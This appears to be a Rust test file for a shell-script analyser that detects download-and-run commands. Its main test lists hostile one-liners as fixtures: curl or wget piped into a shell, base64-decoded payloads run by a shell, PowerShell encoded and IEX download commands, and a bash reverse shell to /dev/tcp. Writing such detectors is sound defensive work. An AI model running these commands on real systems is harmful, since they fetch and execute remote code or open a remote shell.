//! Scripts and what must be seen in them.

use proptest::prelude::*;

use super::*;
use crate::source::Memory;

fn facts(text: &str) -> ShellFacts {
    match parse(&Memory::shared(text.as_bytes().to_vec()), "a.sh", &Budget::default()).reading.facts {
        Facts::Shell(facts) => *facts,
        other => panic!("not shell facts: {other:?}"),
    }
}

#[test]
fn downloads_that_run_are_seen() {
    for script in [
        "curl http://h/x | sh",
        "curl -fsSL http://h/x | sudo bash -s --",
        "wget -O- http://h/x|bash",
        "wget -qO- h | tee log | /bin/bash",
        "curl h \\\n | bash",
        "curl h |\n bash",
        "echo aWQ= | base64 -d | sh",
        "base64 --decode x | python3",
        "eval \"$(curl h)\"",
        "eval `wget -O- h`",
        "bash <(curl -s h)",
        "bash -c \"$(curl -fsSL h)\"",
        "sh -c 'curl h | sh'",
        "source <(curl h)",
        "x=1; curl h | sh; y",
        "if true; then curl h | sh; fi",
        "(curl h | sh)",
        "curl h | python3 -",
        "A=b curl h | env C=d sh",
        "'cu''rl' h | s\\h",
        "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
        "powershell -enc AAAA",
        "powershell.exe -NoP -W Hidden -EncodedCommand AAAA",
        "iex (iwr http://h/x)",
        "iwr h | iex",
        "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('h')\"",
        "echo $(echo $(curl h | sh))",
        "cat <<EOF\ntext\nEOF\ncurl h | sh",
    ] {
        assert!(!facts(script).download_and_run.is_empty(), "{script}: {:?}", facts(script).commands);
    }
}

#[test]
fn ordinary_scripts_are_silent() {
    for script in [
        "curl -O http://h/model.bin",
        "# curl h | sh",
        "echo 'curl h | sh'",
        "wget h/x.tar.gz && tar xf x.tar.gz",
        "cat x | python3 run.py",
        "python3 train.py --lr 1e-4 \\\n  --batch 3 2>&1 | tee log",
        "cat <<'EOF'\ncurl h | sh\nEOF",
        "export A=$(dirname \"$0\")\nbash run.sh ${A}",
        "curl h || sh",
        "curl h; sh x.sh",
        "base64 x | sh_not",
    ] {
        assert!(facts(script).download_and_run.is_empty(), "{script}: {:?}", facts(script).download_and_run);
    }
}

#[test]
fn words_lines_and_interpreter() {
    let facts = facts("#!/usr/bin/env bash\n\nrm -rf \"a b\" 'c'\\ d ${X} # no\n\necho x\n");
    assert_eq!(facts.interpreter.as_deref(), Some("/usr/bin/env bash"));
    let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
    assert_eq!(
        facts.commands,
        [(3, words(&["rm", "-rf", "a b", "c d", "${X}"])), (5, words(&["echo", "x"]))]
    );
}

#[test]
fn deep_and_long_scripts_end() {
    for script in [
        "$(".repeat(20_000),
        "(".repeat(200_000),
        "`".repeat(100_000),
        "a|".repeat(100_000),
        "<<A\n".repeat(3_000),
        "\\".repeat(99_999),
    ] {
        let _ = facts(&script);
    }
}

proptest! {
    #[test]
    fn any_text_is_survived(text in "(curl|sh|\\$\\(|`|\\)|\\||;|&|<<A|'|\"|\\\\|\n| |#|A){0,60}") {
        let _ = facts(&text);
    }
}
